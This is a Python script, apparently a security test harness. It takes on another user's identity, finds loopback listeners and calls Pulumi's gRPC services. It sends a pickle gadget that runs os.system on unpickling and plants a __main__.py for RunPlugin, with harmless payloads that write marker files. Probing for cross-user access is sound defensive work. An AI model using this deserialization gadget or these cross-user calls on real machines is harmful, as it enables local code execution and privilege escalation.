"""Act as another user of this machine: connect to listeners and make every call of Pulumi's protocols.

    python stranger.py UID FOLDER [PORT [SOURCE_ADDRESS SOURCE_PORT TIMES]]

With a port it calls that one, from a source address if one is given. Without, it calls every listener that
appears on the loopback until FOLDER/stop exists, and again from 127.0.0.2 with the source port of each
connection to that listener. A call that takes effect leaves a file in FOLDER, which anybody may write to;
FOLDER/answers-UID has the answers.
"""

from __future__ import annotations

import base64
import os
import pickle
import socket
import sys
import threading
import time
from contextlib import suppress
from pathlib import Path
from typing import Any

import grpc
from google.protobuf import empty_pb2, struct_pb2
from pulumi.runtime.proto import (
    engine_pb2,
    engine_pb2_grpc,
    language_pb2,
    language_pb2_grpc,
    provider_pb2,
    provider_pb2_grpc,
    resource_pb2,
    resource_pb2_grpc,
)

ESTABLISHED, LISTENS = "01", "0A"
LOOPBACK = "0100007F:"


class Gadget:
    """An object that runs a command when it is unpickled."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> Any:
        return os.system, (f"id > '{self.file}'",)


class Stranger:
    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.answers = (folder / f"answers-{os.getuid()}").open("a", buffering=1)

    def call(self, port: int, source: tuple[str, int] | None = None) -> None:
        """Make every call that could have an effect once."""
        target = f"127.0.0.1:{port}" if source is None else self._bridge(source, port)
        with grpc.insecure_channel(target) as channel:
            for name, method, request in self._calls(channel, port):
                try:
                    answer = method(request, timeout=10)
                    if name == "RunPlugin":
                        list(answer)
                    self.answers.write(f"{port} {name} OK\n")
                except grpc.RpcError as error:
                    self.answers.write(f"{port} {name} {error.code().name}\n")  # pyright: ignore

    def _calls(self, channel: grpc.Channel, port: int) -> list[tuple[str, Any, Any]]:
        props = struct_pb2.Struct()
        pickled = pickle.dumps(Gadget(self.folder / f"unpickled-{port}"))
        props.update({"__provider": base64.b64encode(pickled).decode()})
        provider = provider_pb2_grpc.ResourceProviderStub(channel)
        language = language_pb2_grpc.LanguageRuntimeStub(channel)
        engine = engine_pb2_grpc.EngineStub(channel)
        monitor = resource_pb2_grpc.ResourceMonitorStub(channel)
        urn = "urn:pulumi:dev::proj::pulumi-python:dynamic:Thing::x"
        type_, folder = "pulumi-python:dynamic:Thing", str(self.folder)
        thing = resource_pb2.RegisterResourceRequest(type=type_, name=f"x-{port}", custom=True, object=props)
        note = engine_pb2.LogRequest(severity=engine_pb2.WARNING, message="the stranger was here")
        return [
            ("GetPluginInfo", provider.GetPluginInfo, empty_pb2.Empty()),
            ("Check", provider.Check, provider_pb2.CheckRequest(urn=urn, news=props)),
            ("Create", provider.Create, provider_pb2.CreateRequest(urn=urn, properties=props)),
            ("RunPlugin", language.RunPlugin, language_pb2.RunPluginRequest(pwd=folder, program=folder)),
            ("Log", engine.Log, note),
            ("RegisterResource", monitor.RegisterResource, thing),
        ]

    def _bridge(self, source: tuple[str, int], port: int) -> str:
        """Open a socket on which gRPC reaches the port from a source address."""
        path = f"{self.folder}/bridge-{os.getpid()}-{time.monotonic_ns()}"
        listener = socket.create_server(path, family=socket.AF_UNIX)

        def serve() -> None:
            near, _ = listener.accept()
            with near, listener, suppress(OSError):
                far = dial(source, port)
                threading.Thread(target=_copy, args=(far, near), daemon=True).start()
                _copy(near, far)

        threading.Thread(target=serve, daemon=True).start()
        return f"unix:{path}"

    def watch(self) -> None:
        """Call each listener as soon as it is seen, and again from the port of each of its callers."""
        seen = {(port, 0) for port in _listeners()}
        (self.folder / "ready").touch()
        while not (self.folder / "stop").exists():
            for port, caller in {(port, 0) for port in _listeners()} | _callers() - seen:
                if (port, caller) not in seen:
                    seen.add((port, caller))
                    source = ("127.0.0.2", caller) if caller else None
                    threading.Thread(target=self.call, args=(port, source), daemon=True).start()
            time.sleep(0.001)


def dial(source: tuple[str, int], port: int) -> socket.socket:
    """Connect to a port of 127.0.0.1 from an address of IPv4 or IPv6, whose port may be in use elsewhere."""
    family = socket.AF_INET6 if ":" in source[0] else socket.AF_INET
    made = socket.socket(family)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    made.bind(source)
    hosts = {"::1": "::1", "::ffff:127.0.0.1": "::ffff:127.0.0.1"}
    made.connect((hosts.get(source[0], "127.0.0.1"), port))
    return made


def _copy(source: socket.socket, target: socket.socket) -> None:
    with suppress(OSError):
        while data := source.recv(1 << 16):
            target.sendall(data)
    for end in (source, target):
        with suppress(OSError):
            end.shutdown(socket.SHUT_RDWR)


def _rows() -> list[list[str]]:
    return [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]


def _port(address: str) -> int:
    return int(address.rpartition(":")[2], 16)


def _listeners() -> set[int]:
    return {_port(row[1]) for row in _rows() if row[3] == LISTENS}


def _callers() -> set[tuple[int, int]]:
    """The port of every connection on 127.0.0.1, and the port it was made from."""
    ends = [row for row in _rows() if row[3] == ESTABLISHED and row[1].startswith(LOOPBACK)]
    return {(_port(row[2]), _port(row[1])) for row in ends}


def main() -> None:
    uid, folder, *port = sys.argv[1:]
    os.setgroups([])
    os.setgid(int(uid))
    os.setuid(int(uid))
    stranger = Stranger(Path(folder))
    (Path(folder) / "__main__.py").write_text("open('ran', 'w').write('x')\n")
    if not port:
        stranger.watch()
    elif len(port) == 1:
        stranger.call(int(port[0]))
    else:
        for _ in range(int(port[3])):
            stranger.call(int(port[0]), (port[1], int(port[2])))


if __name__ == "__main__":
    main()
